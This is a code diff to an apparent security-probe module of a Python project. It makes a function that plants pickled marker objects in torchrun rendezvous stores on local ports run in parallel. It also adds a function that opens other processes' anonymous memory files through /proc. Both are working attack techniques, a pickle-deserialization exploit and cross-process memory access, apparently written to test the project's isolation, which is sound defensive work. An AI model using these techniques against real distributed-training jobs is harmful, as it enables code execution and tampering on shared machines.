@@ -14,6 +14,8 @@ import re
 import socket
 import subprocess
 import sys
+import threading
+import time
 import urllib.request
 from collections.abc import Callable
 from datetime import timedelta
@@ -23,9 +25,10 @@ from pathlib import Path
 from midstride.engine.launch.machines.connections import LauncherConnection, NodeConnections, Plan
 from midstride.engine.processes.lifetime import descendants
 
-__all__ = ["Touch", "attack", "listening_ports", "main", "start_attack"]
+__all__ = ["Touch", "attack", "listening_ports", "main", "open_meetings", "start_attack"]
 
 _S = 3.0
+_POISONED_S = 5.0
 
 
 class Touch:
@@ -101,15 +104,34 @@ def poison_rendezvous(marker: str, *ports: str) -> str:
     """Put a pickle in place of the state of torchrun's rendezvous at each of `ports`; return where that was done."""
     from torch.distributed import TCPStore
 
-    done = []
-    for port in ports:
+    done: list[str] = []
+
+    def poison(port: str) -> None:
         with contextlib.suppress(RuntimeError):
             store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=_S))
             for run_id in ("control", *_run_ids()):
                 state = base64.b64encode(pickle.dumps(Touch(marker))).decode()
                 store.set(f"torch.rendezvous.{run_id}", state)
             done.append(port)
+
+    tries = [threading.Thread(target=poison, args=(port,), daemon=True) for port in ports]
+    for one in tries:
+        one.start()
+    until = time.monotonic() + _POISONED_S  # what is no store may let a client wait
+    for one in tries:
+        one.join(max(0.0, until - time.monotonic()))
     return " ".join(done) or "none"
+
+
+def open_meetings() -> str:
+    """Return how many files without a name could be opened, of all processes of this machine."""
+    opened = set()
+    for handle in Path("/proc").glob("[0-9]*/fd/*"):
+        with contextlib.suppress(OSError):
+            if "memfd:midstride" in str(handle.readlink()):
+                with handle.open("r+b") as file:
+                    opened.add(os.fstat(file.fileno()).st_ino)
+    return str(len(opened))
 
 
 def _run_ids() -> list[str]:
